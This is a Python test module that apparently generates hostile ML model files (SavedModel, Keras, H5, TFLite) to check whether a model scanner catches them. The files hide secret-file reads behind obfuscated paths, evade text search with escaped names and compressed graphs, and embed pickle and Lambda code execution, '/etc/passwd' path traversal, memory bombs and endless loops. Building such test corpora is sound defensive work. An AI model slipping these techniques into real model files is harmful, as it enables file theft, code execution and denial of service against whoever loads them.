"""Attacks that were written after the scanner was, from the semantics of operations and formats: what it had not been tried on."""

from __future__ import annotations

import base64
import json
import zlib

import numpy as np
import tensorflow as tf

from . import flatbuffer as fb
from . import keras_attacks as ka
from .build import (
    FLOATS,
    STRING,
    X_IN,
    Func,
    X,
    by_hand,
    const,
    definition,
    dense,
    export,
    export_v1,
    model_of,
    node,
    patch,
    raw,
    scratch,
    v1,
    write_model,
)
from .file_reads_hidden import _dataset_graph, _with_retval, from_graph
from .file_writes import _after
from .flatbuffer import CODES, schema
from .malformed import _varint
from .registry import Place, attack, fires

READS = fires("call", "reads")
OOM = fires("call", "exhausts")
HANGS = fires("call", "hangs")


def _path(id, about, make, value=None, shows=READS, op="ReadFile"):
    def build(place: Place):
        dense(
            place.path, lambda x, y: {"leak": tf.io.read_file(make(f"{place.canary}/secret.txt"))}
        )

    build.__doc__ = about
    attack(id, "savedmodel", "file-read", op, value, fires=shows)(build)


_path(
    "w2-path-split",
    "The path is a piece of a sentence.",
    lambda p: tf.strings.split(f"please open {p} now", " ")[2],
)
_path(
    "w2-path-gather",
    "The path is one of a list.",
    lambda p: tf.gather(["a", "b", p, "c"], 2),
    "secret.txt",
)
_path(
    "w2-path-joins",
    "The path is joined from what was joined.",
    lambda p: tf.strings.join([p.rsplit("/", 1)[0], tf.strings.join(["sec", "ret.txt"])], "/"),
)
_path(
    "w2-path-select",
    "The path is chosen by tf.where.",
    lambda p: tf.where(tf.constant([True]), [p], [""])[0],
    "secret.txt",
)
_path(
    "w2-path-parse-tensor",
    "The path is a serialized tensor.",
    lambda p: tf.io.parse_tensor(_serialized(p), tf.string),
)
_path(
    "w2-path-decompress",
    "The path is compressed.",
    lambda p: raw.DecodeCompressed(bytes=zlib.compress(p.encode()), compression_type="ZLIB"),
)
_path(
    "w2-path-tensor-list",
    "The path goes through a TensorList.",
    lambda p: raw.TensorListGetItem(
        input_handle=raw.TensorListFromTensor(
            tensor=[p, "b"], element_shape=tf.zeros([0], tf.int32)
        ),
        index=0,
        element_shape=tf.zeros([0], tf.int32),
        element_dtype=tf.string,
    ),
)
_path("w2-path-loop", "A loop puts the path together, a letter each time.", lambda p: _letters(p))
_path(
    "w2-path-unicode",
    "The path is UTF-16.",
    lambda p: tf.strings.unicode_transcode(p.encode("utf-16-be"), "UTF-16-BE", "UTF-8"),
)


def _serialized(text: str) -> bytes:
    return tf.make_tensor_proto(text).SerializeToString()


def _letters(path: str):
    letters = tf.constant(list(path))
    return tf.while_loop(
        lambda i, s: i < len(path),
        lambda i, s: (i + 1, tf.strings.join([s, letters[i]])),
        [0, tf.constant("")],
    )[1]


@attack("w2-path-from-asset", "savedmodel", "file-read", "ReadFile", None, fires=READS)
def _(place: Place):
    """The path stands in an asset: the asset is read honestly, and what it says is opened."""
    folder = scratch(place.path)
    folder.mkdir(parents=True)
    (folder / "config.txt").write_text(f"{place.canary}/secret.txt")
    asset = tf.saved_model.Asset(str(folder / "config.txt"))
    export(
        place.path,
        lambda x: {"y": x, "leak": tf.io.read_file(tf.io.read_file(asset.asset_path))},
        FLOATS,
        extra=asset,
    )


@attack("w2-shadowed-op", "savedmodel", "file-read", "ReadFile", "secret.txt", fires=READS)
def _(place: Place):
    """A library function is called like a built-in operation, which TensorFlow looks up after it."""
    shadowed = definition(
        lambda x: tf.io.read_file(x), tf.TensorSpec([], tf.string), name="StringLower"
    )
    nodes = [const("p", f"{place.canary}/secret.txt"), node("y", "StringLower", ["p"])]
    by_hand(place.path, nodes, ("y", tf.string, []), shadowed)


@attack("w2-deep-mixture", "savedmodel", "file-read", "ReadFile", "secret.txt", fires=READS)
def _(place: Place):
    """A branch in a branch in a loop in the function of a dataset in a function."""

    def element(i):
        pick = lambda: tf.cond(
            i >= 0, lambda: tf.io.read_file(f"{place.canary}/secret.txt"), lambda: tf.constant("no")
        )
        return tf.while_loop(
            lambda j, s: j < 1,
            lambda j, s: (
                j + 1,
                tf.switch_case(tf.cast(i, tf.int32), [pick, lambda: tf.constant("-")]),
            ),
            [0, tf.constant("")],
        )[1]

    inner = tf.function(
        lambda: (
            tf.data.Dataset.range(1)
            .map(element)
            .reduce(tf.constant(""), lambda a, b: tf.strings.join([a, b]))
        )
    )
    dense(place.path, lambda x, y: {"leak": inner()})


@attack(
    "w2-graph-compressed",
    "savedmodel",
    "code-execution",
    ["DatasetFromGraph"],
    None,
    also=["file-read"],
    fires=READS,
)
def _(place: Place):
    """A graph in a string that is compressed."""
    packed = zlib.compress(_with_retval(_dataset_graph(place)))
    dense(
        place.path,
        lambda x, y: from_graph(raw.DecodeCompressed(bytes=packed, compression_type="ZLIB")),
    )


@attack(
    "w2-graph-base64",
    "savedmodel",
    "code-execution",
    ["DatasetFromGraph"],
    None,
    also=["file-read"],
    fires=READS,
)
def _(place: Place):
    """A graph in a string in base64."""
    packed = base64.urlsafe_b64encode(_with_retval(_dataset_graph(place))).rstrip(b"=")
    dense(place.path, lambda x, y: from_graph(tf.io.decode_base64(packed)))


@attack("w2-text-pieces", "savedmodel", "file-read", "ReadFile", "secret.txt", fires=READS)
def _(place: Place):
    """A text form with angle brackets, comments, hexadecimal escapes, and the operation's name in two pieces."""
    place.path.mkdir()
    path = "".join(f"\\x{ord(letter):02x}" for letter in f"{place.canary}/secret.txt")
    (place.path / "saved_model.pbtxt").write_text(f"""
# nothing to see
saved_model_schema_version: 1;
meta_graphs <
  meta_info_def {{ tags: 'serve' }}
  graph_def: <
    node: {{ name: "x" op: "Placeholder" attr {{ key: "dtype" value {{ type: DT_FLOAT }} }} }}
    node [{{ name: "p", op: "Const", attr < key: "dtype" value < type: 7 > >
      attr < key: "value" value < tensor < dtype: DT_STRING tensor_shape <> string_val: '{path}' > > > }}]
    node {{ name: "y" op: 'Read' "File" input: "p" }}
    versions {{ producer: 0x9c4 }}
  >
  signature_def {{ key: "serving_default" value {{ method_name: "tensorflow/serving/predict"
    inputs {{ key: "x" value {{ name: "x:0" dtype: DT_FLOAT tensor_shape {{ unknown_rank: true }} }} }}
    outputs {{ key: "y" value {{ name: "y:0" dtype: DT_STRING tensor_shape {{ }} }} }} }} }}
>
""")


@attack(
    "w2-op-twice",
    "savedmodel",
    "file-read",
    "ReadFile",
    "secret.txt",
    also=["parser-differential"],
    fires=READS,
)
def _(place: Place):
    """The field op of a node twice in the bytes: the last one counts."""
    nodes = [const("p", f"{place.canary}/secret.txt"), node("y", "StringLower", ["p"])]
    model = model_of([X, *nodes], X_IN, {"y": ("y:0", tf.string, [])})
    last = model.meta_graphs[0].graph_def.node[-1]
    last.attr.clear()
    old = last.SerializeToString(deterministic=True)
    new = old + b"\x12\x08ReadFile"
    graph = model.meta_graphs[0].graph_def
    del graph.node[-1]
    graph_bytes = graph.SerializeToString(deterministic=True) + b"\x0a" + _varint(len(new)) + new
    meta = model.meta_graphs[0]
    meta.ClearField("graph_def")
    meta_bytes = (
        meta.SerializeToString(deterministic=True)
        + b"\x12"
        + _varint(len(graph_bytes))
        + graph_bytes
    )
    place.path.mkdir()
    (place.path / "saved_model.pb").write_bytes(
        b"\x08\x01\x12" + _varint(len(meta_bytes)) + meta_bytes
    )


@attack(
    "w2-write-map-and-batch",
    "savedmodel",
    "file-write",
    "WriteFile",
    "w2-write-map-and-batch",
    fires=fires("call", "writes", "out/w2-write-map-and-batch"),
)
def _(place: Place):
    """WriteFile in a parallel map whose errors are ignored."""
    path = f"{place.canary}/out/w2-write-map-and-batch"
    data = lambda: (
        tf.data.Dataset.range(2)
        .map(
            lambda i: _after(tf.io.write_file(path, "owned"), i),
            num_parallel_calls=2,
            deterministic=False,
        )
        .ignore_errors()
        .batch(2)
    )
    dense(
        place.path,
        lambda x, y: {
            "z": data().reduce(tf.constant(0, tf.int64), lambda a, b: a + tf.reduce_sum(b))
        },
    )


@attack(
    "w2-save-request",
    "savedmodel",
    "file-write",
    "SaveV2",
    ["request", "signature", "input"],
    fires=fires(
        "call", "writes", "out/w2-save-request", feed={"s": "{canary}/out/w2-save-request"}
    ),
)
def _(place: Place):
    """A signature that saves where the request says."""

    def serve(s):
        return {
            "y": _after(
                raw.SaveV2(
                    prefix=s, tensor_names=["a"], shape_and_slices=[""], tensors=[tf.constant(1.0)]
                ),
                s,
            )
        }

    export(place.path, serve, STRING)


@attack(
    "w2-restore-request",
    "savedmodel",
    "file-read",
    "RestoreV2",
    ["request", "signature", "input"],
    fires=fires("call", "reads", feed={"s": "{canary}/secret-checkpoint"}),
)
def _(place: Place):
    """A signature that restores from where the request says."""
    export(
        place.path,
        lambda s: {
            "leak": raw.RestoreV2(
                prefix=s, tensor_names=["text"], shape_and_slices=[""], dtypes=[tf.string]
            )[0]
        },
        STRING,
    )


@attack(
    "w2-append-request-log",
    "savedmodel",
    "file-write",
    "PrintV2",
    "w2-append-request-log",
    fires=fires("call", "writes", "out/w2-append-request-log"),
)
def _(place: Place):
    """Every request is logged to a file."""
    dense(
        place.path,
        lambda x, y: {
            "z": _after(
                tf.print(x, output_stream=f"file://{place.canary}/out/w2-append-request-log"), y
            )
        },
    )


@attack(
    "w2-read-at-restore",
    "savedmodel",
    "file-read",
    "ReadFile",
    "secret.txt",
    trigger="load-cpp",
    fires=fires("load-cpp", "opens", "secret.txt"),
)
def _(place: Place):
    """The restore function of a TF2 model reads a file too: the C++ loader runs it, Python restores by itself."""
    dense(place.path)

    def edit(model):
        for function in model.meta_graphs[0].graph_def.library.function:
            restores = [n for n in function.node_def if n.op == "AssignVariableOp"]
            if restores and any(n.op == "RestoreV2" for n in function.node_def):
                function.node_def.extend(
                    [
                        const("p", f"{place.canary}/secret.txt"),
                        node("r", "ReadFile", ["p:output:0"]),
                        node("n", "PrintV2", ["r:contents:0"], output_stream="log(info)", end=""),
                    ]
                )
                function.control_ret["n"] = "n"
                function.signature.control_output.append("n")

    patch(place.path, edit)


def _bomb(id, names, about, make, shows=OOM):
    def build(place: Place):
        dense(place.path, lambda x, y: {"z": make(x, y)})

    build.__doc__ = about
    attack(id, "savedmodel", "memory", names, fires=shows)(build)


_bomb(
    "w2-mem-space-to-batch",
    ["SpaceToBatch"],
    "SpaceToBatchND with padding of 200,000.",
    lambda x, y: tf.space_to_batch(
        tf.reshape(y[:1, :1], [1, 1, 1, 1]), [1, 1], [[0, 199999], [0, 199999]]
    ),
)
_bomb(
    "w2-mem-padded-raw",
    ["DecodePaddedRaw"],
    "DecodePaddedRaw of a fixed length of 80 GB.",
    lambda x, y: raw.DecodePaddedRaw(
        input_bytes=["a"] * 40, fixed_length=2_000_000_000, out_type=tf.uint8
    ),
    None,
)
_bomb(
    "w2-mem-multinomial",
    ["Multinomial"],
    "Two billion samples.",
    lambda x, y: raw.Multinomial(
        logits=tf.nn.softmax(y), num_samples=2_000_000_000, output_dtype=tf.int64
    ),
)
_bomb(
    "w2-mem-poisson",
    ["RandomPoisson"],
    "Poisson numbers for a shape.",
    lambda x, y: tf.random.poisson([200000, 200000], 1.0),
)
_bomb(
    "w2-mem-conv3d",
    ["Conv3DBackpropInput"],
    "A transposed convolution in three dimensions.",
    lambda x, y: raw.Conv3DBackpropInputV2(
        input_sizes=[1, 6000, 6000, 6000, 1],
        filter=tf.ones([1, 1, 1, 1, 1]),
        out_backprop=tf.ones([1, 1, 1, 1, 1]),
        strides=[1, 6000, 6000, 6000, 1],
        padding="VALID",
    ),
    None,
)
_bomb(
    "w2-mem-cartesian",
    ["Mul", "BroadcastTo"],
    "A product of four ranges.",
    lambda x, y: tf.reduce_max(
        tf.reshape(tf.range(700.0), [-1, 1, 1, 1])
        * tf.reshape(tf.range(700.0), [-1, 1, 1])
        * tf.reshape(tf.range(700.0), [-1, 1])
        * (tf.range(700.0) + y[0, 0]),
        0,
    ),
)
_bomb(
    "w2-mem-gather",
    ["Gather"],
    "A row of a megabyte gathered a million times.",
    lambda x, y: tf.gather(tf.ones([1, 262144]) + y[0, 0], tf.zeros([1_000_000], tf.int32)),
    None,
)
_bomb(
    "w2-mem-matmul-square",
    ["MatMul", "Tile", "Fill"],
    "A product whose operands are small and whose result is not.",
    lambda x, y: tf.linalg.matmul(tf.fill([300000, 1], 2.0) + y[0, 0], tf.fill([1, 300000], 3.0)),
)
_bomb(
    "w2-mem-histogram",
    ["HistogramFixedWidth", "Bincount", "UnsortedSegment"],
    "A histogram of two billion bins.",
    lambda x, y: tf.histogram_fixed_width(y, [0.0, 1.0], 2_000_000_000),
    None,
)
_bomb(
    "w2-mem-frames",
    ["Gather", "StridedSlice", "Reshape", "frame", "Range"],
    "Overlapping frames: a million of a million samples.",
    lambda x, y: tf.signal.frame(tf.zeros([2_000_000]) + y[0, 0], 1_000_000, 1),
    None,
)
_bomb(
    "w2-mem-powers",
    ["Fill", "Pow"],
    "The size is a power.",
    lambda x, y: tf.reduce_sum(tf.fill([tf.pow(10, 9), 40], 1.0)),
)


@attack(
    "w2-mem-resize-request",
    "savedmodel",
    "memory",
    ["ResizeBilinear", "Resize"],
    ["request", "signature", "input"],
)
def _(place: Place):
    """The request says how large an image becomes."""
    export(
        place.path,
        lambda n: {
            "y": tf.image.resize(tf.zeros([1, 2, 2, 3]), tf.cast(tf.stack([n, n]), tf.int32))
        },
        tf.TensorSpec([], tf.int64, name="n"),
    )


def _hang(id, names, about, make, shows=HANGS):
    def build(place: Place):
        dense(place.path, lambda x, y: {"z": make(x, y)})

    build.__doc__ = about
    attack(id, "savedmodel", "hang", names, also=["network"], fires=shows)(build)


def _ends(data):
    return data.reduce(tf.constant(0, tf.int64), lambda a, b: b)


_hang(
    "w2-counter",
    ["Dataset"],
    "A counter without an end, filtered and reduced.",
    lambda x, y: _ends(tf.data.Dataset.counter().filter(lambda i: i >= 0)),
)
_hang(
    "w2-take-while",
    ["Dataset"],
    "take_while whose predicate is always true, over a dataset that repeats.",
    lambda x, y: _ends(tf.data.Dataset.range(2).repeat().take_while(lambda i: i >= 0)),
)
_hang(
    "w2-filter-nothing",
    ["RepeatDataset", "FilterDataset"],
    "The first element of an endless dataset none of whose elements passes.",
    lambda x, y: _ends(tf.data.Dataset.range(2).repeat().filter(lambda i: i > 5).take(1)),
)
_hang(
    "w2-zip-forever",
    ["RepeatDataset"],
    "Two endless datasets side by side.",
    lambda x, y: tf.data.Dataset.zip(
        tf.data.Dataset.range(3).repeat(), tf.data.Dataset.range(2).repeat()
    ).reduce(tf.constant(0, tf.int64), lambda a, b: a + b[0]),
)
_hang(
    "w2-reader-empty",
    ["ReaderRead"],
    "A reader with an empty queue.",
    lambda x, y: (
        raw.ReaderReadV2(
            reader_handle=raw.IdentityReaderV2(),
            queue_handle=raw.FIFOQueueV2(component_types=[tf.string]),
        ).value
    ),
)
_hang(
    "w2-ordered-unstage",
    ["OrderedMapUnstage"],
    "Takes a key of an ordered map that nobody stages.",
    lambda x, y: raw.OrderedMapUnstage(
        key=tf.constant(1, tf.int64), indices=[0], dtypes=[tf.float32], shared_name="o"
    )[0],
)
_hang(
    "w2-collective-gather",
    ["CollectiveGather"],
    "A gathering of three, of which one comes.",
    lambda x, y: raw.CollectiveGatherV2(
        input=y, group_size=3, group_key=2, instance_key=2, ordering_token=[]
    ),
)
_hang(
    "w2-collective-recv",
    ["CollectiveBcastRecv"],
    "Waits for a broadcast.",
    lambda x, y: raw.CollectiveBcastRecvV2(
        group_size=2, group_key=3, instance_key=3, shape=[2], T=tf.float32
    ),
)
_hang(
    "w2-loop-float",
    ["While", "loop"],
    "A float that is halved never arrives at less than zero.",
    lambda x, y: tf.while_loop(lambda f: f >= 0.0, lambda f: [f * 0.5], [tf.constant(1.0)])[0],
)
_hang(
    "w2-loop-oscillates",
    ["While", "loop"],
    "A counter goes up and down for ever.",
    lambda x, y: tf.while_loop(lambda i: i < 10, lambda i: [1 - i], [tf.constant(0)])[0],
)
_hang(
    "w2-loop-nested-three",
    ["While", "loop"],
    "Three loops of ten thousand, one in the other.",
    lambda x, y: _three(),
)


def _three():
    loop = lambda inner: tf.while_loop(
        lambda i, v: i < 10000, lambda i, v: (i + 1, inner(v)), [0, tf.constant(0.0)]
    )[1]
    return loop(lambda a: a + loop(lambda b: b + loop(lambda c: c + 1.0)))


@attack(
    "w2-loop-variable", "savedmodel", "hang", ["While", "loop"], None, fires=fires("call", "hangs")
)
def _(place: Place):
    """A loop while a variable is true, which nothing sets."""
    flag = tf.Variable(True)
    export(
        place.path,
        lambda x: {"y": tf.while_loop(lambda i: flag.read_value(), lambda i: [i + 1], [0])[0]},
        FLOATS,
        extra=flag,
    )


def _keras(id, category, names, about, make, value=None, also=(), **more):
    def build(place: Place):
        ka.write(place.path, make(place))

    build.__doc__ = about
    attack(
        id,
        "keras",
        category,
        names,
        value,
        also=also,
        trigger="load-python",
        suffix=".keras",
        **more,
    )(build)


def _function(module, name, **arguments):
    return ka.with_layer(
        ka._lambda_of(ka.module_reference(module, "function", name, "function"), arguments)
    )


_keras(
    "w2-k3-load-library",
    "code-execution",
    ["load_op_library", "load_library"],
    "tf.load_op_library of a file as a function.",
    lambda p: _function("tensorflow", "load_op_library", library_filename="/tmp/evil.so"),
)
_keras(
    "w2-k3-numpy-load",
    "code-execution",
    ["numpy"],
    "numpy.load with pickles as a function.",
    lambda p: _function("numpy", "load", file="/tmp/x.npy", allow_pickle=True),
    also=("file-read",),
)
_keras(
    "w2-k3-gfile",
    "code-execution",
    ["gfile", "tensorflow.io", "remove", "rmtree"],
    "tf.io.gfile.rmtree as a function.",
    lambda p: _function("tensorflow.io.gfile", "rmtree", path="/tmp/x"),
    also=("file-delete",),
)
_keras(
    "w2-k3-optimizer",
    "code-execution",
    ["pickle", "loads"],
    "pickle.loads as the optimizer.",
    lambda p: _compiled(optimizer=ka.module_reference("pickle", "loads", {"data": "x"})),
)
_keras(
    "w2-k3-metric-lambda",
    "code-execution",
    ["lambda", "Lambda"],
    "Bytecode among the metrics.",
    lambda p: _compiled(
        metrics=[{"class_name": "__lambda__", "config": {"value": [ka.shell(), None, None]}}]
    ),
)
_keras(
    "w2-k3-initializer-lambda",
    "code-execution",
    ["lambda", "Lambda"],
    "Bytecode as an initializer in a nested list.",
    lambda p: ka._initializer(
        {"class_name": "__lambda__", "config": {"value": [ka.shell(), None, None]}}
    ),
)
_keras(
    "w2-k3-tfsm-cell",
    "code-execution",
    ["TFSMLayer"],
    "TFSMLayer in TimeDistributed.",
    lambda p: ka.with_layer(
        ka.wrapped(
            "TimeDistributed",
            ka.module_reference("keras.layers", "TFSMLayer", {"filepath": "../evil"}),
        )
    ),
    also=("file-read", "path-traversal"),
)
_keras(
    "w2-k3-save-model",
    "code-execution",
    ["save_model", "save_weights", "save"],
    "keras.saving.save_model as a function: writes.",
    lambda p: _function("keras.saving", "save_model", filepath="/tmp/x.keras"),
    also=("file-write",),
)
_keras(
    "w2-k3-plot-model",
    "code-execution",
    ["plot_model"],
    "keras.utils.plot_model as a function: writes and starts a program.",
    lambda p: _function("keras.utils", "plot_model", to_file="/tmp/x.png"),
    also=("file-write",),
)
_keras(
    "w2-k3-text-vocabulary",
    "file-read",
    ["vocabulary", "TextVectorization"],
    "A vocabulary path that climbs, in a nested model.",
    lambda p: ka.with_layer(
        ka._nested(
            ka.module_reference(
                "keras.layers", "TextVectorization", {"vocabulary": "../../../etc/passwd"}
            )
        )
    ),
    "etc/passwd",
    also=("path-traversal",),
)


def _compiled(**parts):
    config = ka.template()[0]
    config["compile_config"] = {
        "optimizer": "adam",
        "loss": "mse",
        "loss_weights": None,
        "metrics": None,
        "weighted_metrics": None,
        "run_eagerly": False,
        **parts,
    }
    return config


@attack(
    "w2-k3-escaped-name",
    "keras",
    "code-execution",
    ["Lambda", "lambda"],
    None,
    trigger="load-python",
    suffix=".keras",
)
def _(place: Place):
    """class_name Lambda is written with JSON's escapes, so that no search for text finds it."""
    text = (
        json.dumps(ka.with_layer(ka.lambda_layer(ka.shell())))
        .replace("Lambda", "\\u004c\\u0061mbda")
        .replace("__lambda__", "\\u005f\\u005flambda\\u005f\\u005f")
    )
    ka.write(place.path, None, raw_config=text.encode())


@attack(
    "w2-h5-config-bytes",
    "h5",
    "code-execution",
    ["Lambda", "ELF"],
    None,
    also=["payload"],
    trigger="load-python",
    suffix=".h5",
)
def _(place: Place):
    """model_config as fixed-length bytes and not as text, in a file with a user block that is a program."""
    import h5py

    from .code import _elf

    with h5py.File(place.path, "w", userblock_size=2048) as file:
        file.attrs["model_config"] = np.bytes_(
            json.dumps(ka.legacy([ka.legacy_lambda(ka.shell())]))
        )
        file.attrs["keras_version"] = np.bytes_("2.4.0")
    data = bytearray(place.path.read_bytes())
    data[:1024] = _elf()[:1024].ljust(1024, b"\0")
    place.path.write_bytes(bytes(data))


@attack(
    "w2-h5-optimizer-external",
    "h5",
    "file-read",
    ["external"],
    "secret.h5",
    also=["path-traversal"],
    trigger="load-python",
    suffix=".h5",
)
def _(place: Place):
    """An external link among the weights of the optimizer."""
    import h5py

    from .h5_attacks import write

    write(place.path, ka.legacy([]))
    with h5py.File(place.path, "a", libver="latest") as file:
        file.create_group("optimizer_weights")["iteration:0"] = h5py.ExternalLink(
            f"{place.canary}/secret.h5", "data"
        )


@attack("w2-tl-call-once", "tflite", "hang", ["WHILE"], None, suffix=".tflite")
def _(place: Place):
    """An endless WHILE in the subgraph that CALL_ONCE runs first."""
    loop = schema.WhileOptionsT()
    loop.condSubgraphIndex, loop.bodySubgraphIndex = 2, 3
    once = schema.CallOnceOptionsT()
    once.initSubgraphIndex = 1
    options = schema.BuiltinOptions
    main = fb.subgraph(
        [fb.tensor("x", [1, 4]), fb.tensor("y", [1, 4])],
        [0],
        [1],
        [
            fb.operator(0, [], [], once, options.CallOnceOptions),
            fb.operator(2, [0], [1], schema.NegOptionsT(), options.NegOptions),
        ],
    )
    init = fb.subgraph(
        [fb.tensor("c", [1, 4], buffer=1), fb.tensor("d", [1, 4])],
        [],
        [],
        [fb.operator(1, [0], [1], loop, options.WhileOptions)],
        "init",
    )
    cond = fb.subgraph(
        [fb.tensor("a", [1, 4]), fb.tensor("true", [], schema.TensorType.BOOL, 2)],
        [0],
        [1],
        [],
        "cond",
    )
    body = fb.subgraph(
        [fb.tensor("a", [1, 4]), fb.tensor("b", [1, 4])],
        [0],
        [1],
        [fb.operator(2, [0], [1], schema.NegOptionsT(), options.NegOptions)],
        "body",
    )
    buffers = [fb.buffer(np.ones([1, 4], np.float32).tobytes()), fb.buffer(b"\x01")]
    place.path.write_bytes(
        fb.pack(
            fb.model(
                [fb.code(CODES.CALL_ONCE), fb.code(CODES.WHILE), fb.code(CODES.NEG)],
                [main, init, cond, body],
                buffers,
            )
        )
    )


@attack(
    "w2-tl-broadcast-args", "tflite", "memory", ["BROADCAST_TO", "FILL"], None, suffix=".tflite"
)
def _(place: Place):
    """The shape of a FILL is computed by a multiplication of constants."""
    kinds = schema.TensorType
    tensors = [
        fb.tensor("x", [1, 4]),
        fb.tensor("a", [2], kinds.INT32, 1),
        fb.tensor("b", [2], kinds.INT32, 1),
        fb.tensor("dims", [2], kinds.INT32),
        fb.tensor("v", [], buffer=2),
        fb.tensor("y", [0]),
    ]
    operators = [
        fb.operator(0, [1, 2], [3], schema.MulOptionsT(), schema.BuiltinOptions.MulOptions),
        fb.operator(1, [3, 4], [5]),
    ]
    buffers = [
        fb.buffer(np.array([500, 500], np.int32).tobytes()),
        fb.buffer(np.float32(1).tobytes()),
    ]
    place.path.write_bytes(
        fb.pack(
            fb.model(
                [fb.code(CODES.MUL), fb.code(CODES.FILL)],
                [fb.subgraph(tensors, [0], [5], operators)],
                buffers,
            )
        )
    )


@attack(
    "w2-tl-metadata-buffer",
    "tflite",
    "malformed",
    ["metadata", "buffer"],
    None,
    trigger="load",
    suffix=".tflite",
)
def _(place: Place):
    """A metadata entry in a buffer that is not there."""
    held = fb.unpack(fb.dense())
    entry = schema.MetadataT()
    entry.name, entry.buffer = b"min_runtime_version", 900
    held.metadata = [entry]
    place.path.write_bytes(fb.pack(held))


@attack(
    "w2-tf1-summary-writer",
    "savedmodel",
    "file-write",
    ["CreateSummaryFileWriter"],
    "w2-tf1",
    trigger="load",
    fires=fires("load-cpp", "writes", "out/w2-tf1"),
)
def _(place: Place):
    """The init operation of a TF1 model opens a summary writer."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        writer = raw.SummaryWriter(shared_name="w", container="")
        made = raw.CreateSummaryFileWriter(
            writer=writer,
            logdir=f"{place.canary}/out/w2-tf1",
            max_queue=1,
            flush_millis=1,
            filename_suffix="",
        )
        return {"x": x}, {"y": x * 2.0}, {"main_op": made}

    export_v1(place.path, build)


@attack(
    "w2-function-device",
    "savedmodel",
    "network",
    ["device", "/job:"],
    "/job:worker",
    also=["contract", "servability"],
)
def _(place: Place):
    """A node of a function is placed on another task."""
    inner = definition(lambda x: tf.identity(x), tf.TensorSpec(None, tf.float32), name="inner")
    inner[0].node_def[0].device = "/job:worker/task:1"
    by_hand(
        place.path,
        [node("y", "PartitionedCall", ["x"], Tin=[tf.float32], Tout=[tf.float32], f=Func("inner"))],
        functions=inner,
    )


def _broken(id, names, about, edit, also=()):
    def build(place: Place):
        model = model_of(
            [X, node("y", "Identity", ["x"], T=tf.float32)], X_IN, {"y": ("y:0", tf.float32, None)}
        )
        edit(model)
        write_model(place.path, model)

    build.__doc__ = about
    attack(
        id,
        "savedmodel",
        "malformed",
        names,
        also=["contract", "unreadable", "custom-op", "servability", *also],
        trigger="load",
    )(build)


_broken(
    "w2-no-op-name",
    ["op", "y"],
    "A node without an operation.",
    lambda m: setattr(m.meta_graphs[0].graph_def.node[1], "op", ""),
)
_broken(
    "w2-no-node-name",
    ["name", "node"],
    "A node without a name.",
    lambda m: m.meta_graphs[0].graph_def.node.append(node("", "NoOp")),
)
_broken(
    "w2-no-metagraph",
    ["MetaGraph", "meta"],
    "A SavedModel without a MetaGraph.",
    lambda m: m.ClearField("meta_graphs"),
)
_broken(
    "w2-attr-type",
    ["T", "y", "attribute", "type"],
    "An attribute that should be a type is a text.",
    lambda m: m.meta_graphs[0].graph_def.node[1].attr["T"].__setattr__("s", b"float"),
)
_broken(
    "w2-too-few-inputs",
    ["y", "input"],
    "An Identity without its input.",
    lambda m: m.meta_graphs[0].graph_def.node[1].ClearField("input"),
)
_broken(
    "w2-function-no-return",
    ["broken", "ret"],
    "A function whose return value nobody makes.",
    lambda m: _no_return(m),
)


def _no_return(model):
    function = definition(lambda x: tf.identity(x), tf.TensorSpec(None, tf.float32), name="broken")[
        0
    ]
    for key in function.ret:
        function.ret[key] = "ghost:output:0"
    graph = model.meta_graphs[0].graph_def
    graph.library.function.append(function)
    graph.node[1].CopyFrom(
        node("y", "PartitionedCall", ["x"], Tin=[tf.float32], Tout=[tf.float32], f=Func("broken"))
    )
